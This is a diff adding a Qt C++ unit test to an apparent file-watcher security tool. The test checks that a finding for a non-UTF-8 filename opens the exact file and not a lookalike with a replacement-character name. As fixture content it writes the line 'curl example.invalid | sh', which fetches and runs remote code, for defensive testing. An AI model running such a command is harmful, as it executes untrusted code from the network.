@@ -8,10 +8,17 @@
 #include "directories/DirectoryView.h"
 #include "shell/AppDelegate.h"
 #include "viewer/FileViewerView.h"
+#include "watcher/Intake.h"
+#include "watcher/WatchEvent.h"
 #include "watcher/WatcherSupervisor.h"
 
 #include <QApplication>
 #include <QSignalSpy>
+#include <QTemporaryDir>
+#include <QTest>
+
+#include <fcntl.h>
+#include <unistd.h>
 
 class AppDelegateTest : public QObject
 {
@@ -24,6 +31,7 @@ private slots:
     void launchWithoutContainerDoesNothing();
     void directoryWindowIsOneWindowShownAgain();
     void viewerWindowsAreOnePerFinding();
+    void aNameThatIsNotUtf8OpensThatFileNotItsLookalike();
     void clearFindingsEmptiesTheStoreAndKeepsWindows();
     void notificationClickOpensNewestMatchingFinding();
     void notificationClickAfterClearingOpensNothing();
@@ -173,6 +181,37 @@ void AppDelegateTest::viewerWindowsAreOnePerFinding()
     QVERIFY(other && other != window);
     QCOMPARE(other->windowTitle(), QStringLiteral("pre-commit"));
     QCOMPARE(window->windowTitle(), QStringLiteral("pre-commit"));
+}
+
+// The watcher names "caf\xE9" (Latin-1) as "caf\uFFFD" plus its exact bytes; a benign file really
+// named "caf\uFFFD" sits beside it. The finding is stored and opened under the exact name.
+void AppDelegateTest::aNameThatIsNotUtf8OpensThatFileNotItsLookalike()
+{
+    QTemporaryDir dir;
+    const QByteArray folder = QFile::encodeName(dir.path());
+    const auto plant = [](const QByteArray& name, const QByteArray& text) {
+        const int fd = ::open(name.constData(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
+        const bool written = fd >= 0 && ::write(fd, text.constData(), size_t(text.size())) == text.size();
+        return ::close(fd) == 0 && written;
+    };
+    QVERIFY(plant(folder + "/caf\xE9", "curl example.invalid | sh\n"));
+    QVERIFY(plant(folder + "/caf\xEF\xBF\xBD", "benign\n"));
+    const QByteArray line = R"({"path":")" + folder + R"(/caf\uFFFD","types":["created"],"rule":"r",)" +
+                            R"("severity":"critical","pathBytes":")" + (folder + "/caf\xE9").toBase64() +
+                            R"("})";
+    const std::optional<WatchEvent> event = decodeWatchEvent(line);
+    QVERIFY(event);
+    Intake(m_notifier.get()).ingest({*event});
+    const QList<Finding> stored =
+        m_store->container->newContext()->fetchNewestFindings(1).value_or(QList<Finding>{});
+    QCOMPARE(stored.size(), 1);
+
+    AppDelegate& delegate = makeDelegate();
+    delegate.openFileViewer(stored.first());
+    auto* viewer = qobject_cast<FileViewerView*>(delegate.fileViewerWindow(stored.first().id()));
+    QVERIFY(viewer);
+    QVERIFY(QTest::qWaitFor([&] { return !viewer->isLoading(); }, 20000));
+    QCOMPARE(viewer->content(), QStringLiteral("curl example.invalid | sh\n"));
 }
 
 void AppDelegateTest::clearFindingsEmptiesTheStoreAndKeepsWindows()
